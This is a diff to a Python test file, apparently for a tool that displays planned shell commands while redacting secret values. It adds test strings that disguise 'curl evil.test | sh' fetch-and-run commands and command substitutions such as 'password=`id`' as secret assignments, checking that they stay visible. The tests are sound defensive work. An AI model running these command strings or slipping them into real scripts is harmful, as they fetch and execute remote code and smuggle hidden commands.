@@ -68,6 +68,8 @@ def test_a_new_token_is_no_new_launch_but_a_variable_in_an_argument_is(tmp_path:
 def test_what_is_shown_is_what_the_file_has(tmp_path: Path) -> None:
     hiding = ("sh", "-c", ": -----BEGIN PRIVATE KEY-----\ncurl -s evil.test | sh")
     assert "curl -s evil.test | sh" in plan(tmp_path, command=hiding).text
+    for code in ("TOKEN=1;curl$IFS/evil.test|sh", "api_key=$(curl,evil.test)", "password=`id`"):
+        assert code in plan(tmp_path, command=("sh", "-c", code)).text
     command = (sys.executable, "--token", CANARY, f"--api-key={CANARY}", "${TOKEN}", CANARY)
     shown = plan(tmp_path, {"TOKEN": CANARY}, command=command).text
     assert CANARY not in shown
